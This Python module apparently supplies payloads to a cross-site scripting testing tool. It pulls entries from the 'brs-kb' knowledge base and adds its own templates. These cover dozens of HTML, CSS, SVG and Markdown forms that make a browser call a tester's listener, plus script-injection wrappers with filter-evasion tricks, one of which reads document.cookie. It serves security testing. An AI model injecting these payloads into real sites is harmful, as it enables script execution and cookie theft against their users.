"""What people try to slip into a page: texts that would run, load or send something.

The bulk is the knowledge base of `brs-kb`. The families here add what calls a listener
of ours, so that it would be noticed there, whatever the browser says.
"""

from collections.abc import Sequence
from functools import cache

from brs_kb import get_all_payloads

CALLS = (
    "<img src={0}>",
    "<img srcset='{0} 2x'>",
    "<picture><source srcset={0}><img></picture>",
    "<link rel=prefetch href={0}>",
    "<link rel=preload as=image href={0}>",
    "<link rel=dns-prefetch href={0}>",
    "<link rel=preconnect href={0}>",
    "<link rel=stylesheet href={0}>",
    "<link rel=icon href={0}>",
    "<link rel=manifest href={0}>",
    "<link rel=modulepreload href={0}>",
    "<meta http-equiv=refresh content='0;url={0}'>",
    "<base href={0}>",
    "<iframe src={0}></iframe>",
    "<iframe srcdoc='<img src={0}>'></iframe>",
    "<frameset><frame src={0}></frameset>",
    "<object data={0}></object>",
    "<embed src={0}>",
    "<applet code={0}></applet>",
    "<audio src={0} autoplay></audio>",
    "<video src={0} poster={0}></video>",
    "<video><track src={0} default></video>",
    "<input type=image src={0}>",
    "<body background={0}>",
    "<table background={0}><td background={0}></table>",
    "<style>@import '{0}';</style>",
    "<style>@font-face{{font-family:x;src:url({0})}}*{{font-family:x}}</style>",
    "<style>*{{background:url({0})}}</style>",
    "<p style='background-image:url({0})'>x</p>",
    "<p style='list-style:url({0})'>x</p>",
    "<p style='cursor:url({0}),auto'>x</p>",
    "<svg><image href='{0}'/></svg>",
    "<svg><image xlink:href='{0}'/></svg>",
    "<svg><use href='{0}#x'/></svg>",
    "<svg><feImage href='{0}'/></svg>",
    "<svg><style>*{{fill:url({0})}}</style></svg>",
    "<math href='{0}'>x</math>",
    "<a ping={0} href='#'>x</a>",
    "<form action={0}><button autofocus>x</button></form>",
    "<script src={0}></script>",
    "<script>fetch('{0}')</script>",
    "<script>new Image().src='{0}'</script>",
    "<script>navigator.sendBeacon('{0}')</script>",
    "<script>import('{0}')</script>",
    "<script>new WebSocket('{0}'.replace('http','ws'))</script>",
    "<script>new EventSource('{0}')</script>",
    "<script>new Worker('{0}')</script>",
    "<script>open('{0}')</script>",
    "<script>location='{0}'</script>",
    "<img src=x onerror=\"fetch('{0}')\">",
    "![picture]({0})",
    "![picture][1]\n\n[1]: {0}",
    "[link]({0} 'title')",
    "<{0}>",
    "[img]{0}[/img]",
    "[url={0}]x[/url]",
    "{0}",
    "{0}/picture.png",
    "{0}/film.mp4",
    "!{0}",
    "||{0}||",
    "/me {0}",
    '{{"url":"{0}","type":"image"}}',
    "\u202e{0}\u202c",
)
RUNS = (
    "window.__pwned=1",
    "alert(1)",
    "top.__pwned=document.cookie",
    "eval('__pwned=1')",
    "setTimeout('__pwned=1')",
)
WAYS = (
    "<script>{0}</script>",
    "<ScRiPt >{0}</ScRiPt >",
    "</title><script>{0}</script>",
    "</textarea><script>{0}</script>",
    "--><script>{0}</script>",
    "]]><script>{0}</script>",
    "'\"><script>{0}</script>",
    "<scr<script>ipt>{0}</scr</script>ipt>",
    "&lt;script&gt;{0}&lt;/script&gt;",
    "%3Cscript%3E{0}%3C/script%3E",
    "\\u003cscript\\u003e{0}\\u003c/script\\u003e",
    "\uff1cscript\uff1e{0}\uff1c/script\uff1e",
    "<img src=x onerror={0}>",
    "<svg onload={0}>",
    "<svg><script>{0}</script></svg>",
    "<svg><animate onbegin={0} attributeName=x dur=1s>",
    "<details open ontoggle={0}>",
    "<input autofocus onfocus={0}>",
    "<video><source onerror={0}></video>",
    "<body onload={0}>",
    '<iframe src="javascript:{0}">',
    '<a href="javascript:{0}">x</a>',
    "javascript:{0}",
    "JaVaScRiPt:{0}",
    "java\tscript:{0}",
    "data:text/html,<script>{0}</script>",
    'http://x.test/"onmouseover="{0}',
    "https://x.test/<script>{0}</script>",
    'mailto:x"onclick={0}//@x.test',
    "{{{{constructor.constructor('{0}')()}}}}",
    "${{{0}}}",
    "__proto__[{0}]",
    "<math><mtext><table><mglyph><style><!--</style><img onerror={0} src>",
    '<noscript><p title="</noscript><img src=x onerror={0}>">',
    "<template><script>{0}</script></template>",
    "<style>@keyframes x{{}}</style><p style=animation-name:x onanimationend={0}>",
    "`{0}`",
    "@ada<img src=x onerror={0}>",
)


def beacons(address: str) -> list[str]:
    """Return what would ask `address` for something."""
    return [call.format(address) for call in CALLS]


@cache
def scripts() -> Sequence[str]:
    """Return what would run something; each once, in the same order every time."""
    known = [entry["payload"] for entry in get_all_payloads().values()]
    ours = [way.format(run) for way in WAYS for run in RUNS]
    return tuple(dict.fromkeys([*ours, *known]))


def some(texts: Sequence[str], count: int) -> list[str]:
    """Return so many of them, from all over."""
    step = max(1, len(texts) // count)
    return list(texts[::step][:count])
